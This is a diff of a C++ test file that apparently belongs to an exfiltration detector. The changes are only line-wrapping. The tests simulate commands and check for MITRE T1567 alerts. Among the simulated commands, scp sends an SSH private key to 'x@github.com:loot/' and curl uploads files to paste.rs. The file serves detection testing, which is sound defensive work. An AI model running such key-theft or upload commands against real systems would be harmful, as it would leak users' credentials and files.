@@ -69,11 +69,13 @@ TEST_CASE("own storage: a declared bucket reached through another endpoint is no
     CHECK(tl.find("T1567.002") != nullptr);
 }
 
-TEST_CASE("own storage: rclone sync to the declared b2 remote is silent; the same rclone to an undeclared remote alerts")
+TEST_CASE(
+    "own storage: rclone sync to the declared b2 remote is silent; the same rclone to an undeclared remote alerts")
 {
     {
         Timeline tl(with_own_storage());
-        auto rc = tl.spawn(tl.shell, {"rclone", "sync", home + "/Documents", "b2:own/docs", "--config", "/etc/rclone.conf"});
+        auto rc =
+            tl.spawn(tl.shell, {"rclone", "sync", home + "/Documents", "b2:own/docs", "--config", "/etc/rclone.conf"});
         tl.read(rc, home + "/Documents/a.pdf", 400'000);
         tl.read(rc, home + "/Documents/a.pdf", 400'000);  // rclone reads each file twice (hash, then upload)
         tl.transfer(rc, "api.backblazeb2.com", 420'000, 20'000);
@@ -103,8 +105,8 @@ TEST_CASE("ssh -i KEY / scp -i KEY authenticate with the key: use, not data; scp
     }
     {
         Timeline tl;
-        auto scp = tl.spawn(tl.shell, {"scp", "-i", home + "/.ssh/id_ed25519", home + "/.ssh/id_ed25519",
-                                       "x@github.com:loot/"});
+        auto scp = tl.spawn(tl.shell,
+                            {"scp", "-i", home + "/.ssh/id_ed25519", home + "/.ssh/id_ed25519", "x@github.com:loot/"});
         tl.read(scp, home + "/.ssh/id_ed25519", 420);
         tl.transfer(scp, "github.com", 420 + 3500, 3000);
         CHECK(tl.find("T1567.001") != nullptr);
@@ -145,7 +147,8 @@ TEST_CASE("a provisioner rewriting /etc/hosts after reading a key does not stage
         tl.read(curl, path, 2400, 5151);
         tl.transfer(curl, "paste.rs", 2400 + 900, 300);
         if (path == "/etc/hosts") CHECK(tl.alerts.empty());
-        else CHECK(tl.find("T1567.003") != nullptr);
+        else
+            CHECK(tl.find("T1567.003") != nullptr);
     }
 }
 
@@ -156,11 +159,12 @@ TEST_CASE("scp (a key consumer) naming the key as a file to copy sends it: the s
         Timeline tl;
         std::vector<std::string> args{"scp", "-i", home + "/.ssh/id_ed25519"};
         if (leak) args.push_back(home + "/.ssh/id_ed25519");
-        else args.push_back(home + "/build.tgz");
+        else
+            args.push_back(home + "/build.tgz");
         args.push_back("root@github.com:/tmp/x");
         auto scp = tl.spawn(tl.shell, args);
-        auto ssh = tl.spawn(scp, {"/usr/bin/ssh", "-x", "-oForwardAgent=no", "-l", "root", "-i", home + "/.ssh/id_ed25519",
-                                  "-s", "--", "github.com", "sftp"});
+        auto ssh = tl.spawn(scp, {"/usr/bin/ssh", "-x", "-oForwardAgent=no", "-l", "root", "-i",
+                                  home + "/.ssh/id_ed25519", "-s", "--", "github.com", "sftp"});
         tl.read(ssh, home + "/.ssh/id_ed25519", 420);
         tl.read(scp, leak ? home + "/.ssh/id_ed25519" : home + "/build.tgz", leak ? 420 : 40'000);
         // scp hands what it copies to its ssh through a pipe (the data-flow model's channel).
@@ -170,6 +174,7 @@ TEST_CASE("scp (a key consumer) naming the key as a file to copy sends it: the s
         // An SSH session's own overhead (handshake, keys, channel setup) is about 4 KiB.
         tl.transfer(ssh, "github.com", leak ? 420 + 4800 : 44'000, 3500);
         if (leak) CHECK(tl.find("T1567.001") != nullptr);
-        else CHECK(tl.alerts.empty());
+        else
+            CHECK(tl.alerts.empty());
     }
 }
